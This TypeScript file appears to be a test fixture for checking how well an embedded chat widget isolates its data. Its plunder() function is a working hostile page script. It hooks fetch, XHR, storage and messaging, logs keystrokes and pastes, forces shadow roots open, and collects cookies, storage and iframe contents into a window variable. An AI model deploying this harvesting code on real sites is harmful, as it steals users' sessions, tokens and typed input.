declare global {
  interface Window {
    /** Everything that the hostile page got hold of, as text. */
    loot: string[];
    /** Reads everything that is within reach now, and stores it. */
    search: () => void;
  }
}

/**
 * A hostile script that runs on a page before everything else: it replaces each function through which text goes in or
 * out, keeps copies, and reads every document that it can reach. Runs in the page, so it can't use anything from this
 * file.
 */
export function plunder(): void {
  const loot: string[] = [];
  window.loot = loot;
  const stringify = Reflect.get(JSON, "stringify") as (value: unknown) => string | undefined;
  const push = Reflect.get(Array.prototype, "push") as (...items: unknown[]) => number;
  const keep = (where: string, ...values: unknown[]) => {
    for (const value of values) {
      let text = "";
      try {
        text = typeof value === "string" ? value : (stringify(value) ?? "");
      } catch (error) {
        text = String(error);
      }
      push.call(loot, `${where}: ${text}`);
    }
  };
  /** Wraps a method of the platform with a listener. */
  const tap = (owner: object, name: string, note: (self: unknown, args: unknown[]) => void) => {
    const original = Reflect.get(owner, name) as (...args: unknown[]) => unknown;
    Object.defineProperty(owner, name, {
      configurable: true,
      writable: true,
      value(this: unknown, ...args: unknown[]) {
        note(this, args);
        return Reflect.apply(original, this, args);
      },
    });
  };
  const tapAll = (label: string, owner: object, names: readonly string[]) => {
    for (const name of names) tap(owner, name, (_, args) => keep(`${label}.${name}`, ...args));
  };

  tapAll("window", window, ["fetch", "postMessage"]);
  tapAll("xhr", XMLHttpRequest.prototype, ["open", "send", "setRequestHeader"]);
  tapAll("storage", Storage.prototype, ["getItem", "setItem"]);
  tapAll("json", JSON, ["parse", "stringify"]);
  tapAll("headers", Headers.prototype, ["set", "append"]);
  tapAll("string", String.prototype, ["trim", "slice", "replace"]);
  for (const name of ["push", "map", "filter", "forEach", "join", "includes", "splice"]) {
    tap(Array.prototype, name, (self, args) => keep(`array.${name}`, self, args));
  }
  tap(Object, "assign", (_, args) => keep("assign", ...args));
  tap(Node.prototype, "appendChild", (_, args) => keep("append", (args[0] as Node).textContent));

  // Messages: a channel whose ends are relays, a window that listens to everything.
  const listen = (label: string) => (event: Event) => {
    const { data, key, detail } = event as unknown as Record<string, unknown>;
    keep(label, data, key, detail);
  };
  const TrueChannel = MessageChannel;
  const connect = Reflect.get(MessagePort.prototype, "postMessage") as (data: unknown) => void;
  window.MessageChannel = class {
    readonly port1: MessagePort;
    readonly port2: MessagePort;
    constructor() {
      const [loader, frame] = [new TrueChannel(), new TrueChannel()];
      loader.port2.onmessage = ({ data }) => {
        keep("to the frame", data);
        connect.call(frame.port1, data);
      };
      frame.port1.onmessage = ({ data }) => {
        keep("from the frame", data);
        connect.call(loader.port2, data);
      };
      this.port1 = loader.port1;
      this.port2 = frame.port2;
    }
  } as unknown as typeof MessageChannel;
  tapAll("port", MessagePort.prototype, ["postMessage"]);
  for (const type of ["message", "keydown", "keypress", "input", "beforeinput", "paste", "focusin"]) {
    addEventListener(type, listen(type), true);
  }
  tap(EventTarget.prototype, "addEventListener", (self, [type]) => {
    if (typeof type === "string" && self !== window) window.addEventListener(type, listen(type), true);
  });
  tap(Element.prototype, "attachShadow", (_, args) => Object.assign(args[0] as object, { mode: "open" }));

  const attempt = (where: string, read: () => unknown) => {
    try {
      keep(where, read());
    } catch (error) {
      keep(where, `refused: ${String(error)}`);
    }
  };
  const searchWindow = (where: string, target: Window) => {
    attempt(`${where} document`, () => target.document.documentElement.outerHTML);
    attempt(`${where} localStorage`, () => Object.entries(target.localStorage));
    attempt(`${where} sessionStorage`, () => Object.entries(target.sessionStorage));
    attempt(`${where} address`, () => target.location.href);
    attempt(`${where} name`, () => target.name);
    attempt(`${where} fetch`, () => Object.assign(target, { fetch: keep }));
    attempt(`${where} listener`, () => target.addEventListener("message", listen(where)));
  };
  const searchTree = (root: ParentNode & Node) => {
    keep("tree", root.textContent);
    for (const element of root.querySelectorAll("*")) {
      if (element.shadowRoot) searchTree(element.shadowRoot);
      for (const { name, value } of element.attributes) keep(`@${name}`, value);
      if (!(element instanceof HTMLIFrameElement)) continue;
      attempt("contentDocument", () => element.contentDocument?.documentElement.outerHTML ?? "null");
      if (element.contentWindow) searchWindow("frame", element.contentWindow);
    }
  };
  window.search = () => {
    searchTree(document);
    searchWindow("own", window);
    for (let index = 0; index < window.length; index++) {
      const frame = window[index];
      if (frame) searchWindow(`frames[${index}]`, frame);
    }
    keep("cookies", document.cookie);
    keep(
      "addresses",
      performance
        .getEntries()
        .map(({ name }) => name)
        .join(" "),
    );
    keep("selection", String(getSelection()));
  };

  // It also uses the public API, as any script of the page may.
  const events =
    "ready open close unread message:sent message:received conversation:started conversation:ended handoff:requested handoff:accepted handoff:returned handoff:failed identity:needed identity:failed connection error";
  const stub = (...args: unknown[]) => {
    push.call(
      (Reflect.get(stub, "q") as unknown[] | undefined) ?? Reflect.get(Object.assign(stub, { q: [] }), "q"),
      args,
    );
  };
  Reflect.set(window, "Parley", stub);
  for (const type of events.split(" ")) stub("on", type, (event: unknown) => keep(`event ${type}`, event));
}

/** A chat drawn into the page itself, as many are: the same script reads everything in it. */
export function chatInline(): void {
  const root = document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" });
  const box = root.appendChild(document.createElement("textarea"));
  box.setAttribute("aria-label", "Inline message");
  const token = `inline-token-${"0123456789abcdef".repeat(2)}`;
  localStorage.setItem("chat.session", token);
  box.addEventListener("keydown", (event) => {
    if (event.key !== "Enter") return;
    void fetch("/inline-send", {
      method: "POST",
      headers: { authorization: `Bearer ${token}` },
      body: JSON.stringify({ body: box.value }),
    });
    root.appendChild(document.createElement("p")).textContent = box.value;
  });
}
